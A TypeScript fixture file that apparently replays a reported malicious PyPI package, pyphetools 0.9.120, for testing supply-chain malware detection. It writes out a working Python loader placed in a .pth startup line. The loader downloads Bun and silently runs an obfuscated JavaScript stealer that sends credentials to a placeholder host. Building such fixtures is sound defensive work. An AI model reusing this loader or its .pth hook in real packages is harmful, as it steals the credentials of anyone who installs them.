import { fillerModule } from './filler.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { nodeStealer, obfuscatedBundle } from './javascript.ts';
import { numberWordsLibrary } from './libraries/number-words.ts';
import { jupyterExtension } from './look-alikes/script.ts';
import { coveragePth } from './look-alikes/start-up.ts';
import { pyString } from './python-text.ts';

const PROGRAM = (script: string): string => `import os,sys,platform,subprocess,tempfile,urllib.request as u,zipfile as z
g=os.path.join(tempfile.gettempdir(),'.bun_ran')
if not os.path.exists(g):
    open(g,'w').close()
    d=tempfile.mkdtemp()
    m='aarch64' if platform.machine().lower() in('arm64','aarch64') else 'x64'
    s={'Linux':'linux','Darwin':'darwin','Windows':'windows'}[platform.system()]
    n='bun-%s-%s'%(s,m)
    p=os.path.join(d,'b.zip')
    u.urlretrieve('https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/'+n+'.zip',p)
    z.ZipFile(p).extractall(d)
    b=os.path.join(d,n,'bun')
    os.chmod(b,0o775)
    j=[os.path.join(q,'${script}') for q in sys.path if os.path.exists(os.path.join(q,'${script}'))]
    j and subprocess.Popen([b,'run',j[0]],stdout=-3,stderr=-3,start_new_session=True)
`;

const draft =
  (bundleBytes: number) =>
  (c: Remote): Draft => ({
    kind: 'wheel',
    name: 'pyphetools',
    version: '0.9.120',
    files: {
      ...Object.fromEntries(
        Object.entries(numberWordsLibrary()).map(([path, text]) => [path.replace('num2words/', 'pyphetools/'), text]),
      ),
      'pyphetools/creation/__init__.py': '',
      'pyphetools/creation/cases.py': fillerModule('Cases and their features.', 400, 131),
      '_index.js': obfuscatedBundle(nodeStealer(c.url('/v1/messages')), bundleBytes),
    },
    sites: [
      {
        path: 'pyphetools-setup.pth',
        form: 'line',
        before: '',
        code: `import os;exec(${pyString(PROGRAM('_index.js'))})\n`,
        after: '',
      },
    ],
  });

const SHARED = {
  source: 'https://github.com/ossf/malicious-packages/pull/1299',
  runs: 'every interpreter start, once, downloads Bun from its own releases and runs bundled, obfuscated JavaScript that sends credentials',
  remote: 'https://api.models-vendor.invalid',
};

export const HADES: Replay = {
  ...SHARED,
  id: '24-hades',
  title: 'pyphetools 0.9.120: a .pth line, Bun and 4.8 MB of obfuscated JavaScript',
  draft: draft(4_800_000),
  isAsReportedOnly: true,
  predecessor: () => beforeAttack(draft(1000), '0.9.119', ['_index.js']),
  lookAlikes: () => [coveragePth(), jupyterExtension()],
};

export const HADES_SMALL: Replay = {
  ...SHARED,
  id: '24b-hades-small',
  title: 'pyphetools 0.9.120 with a bundle of 200 KB',
  draft: draft(200_000),
  lookAlikes: () => [],
};
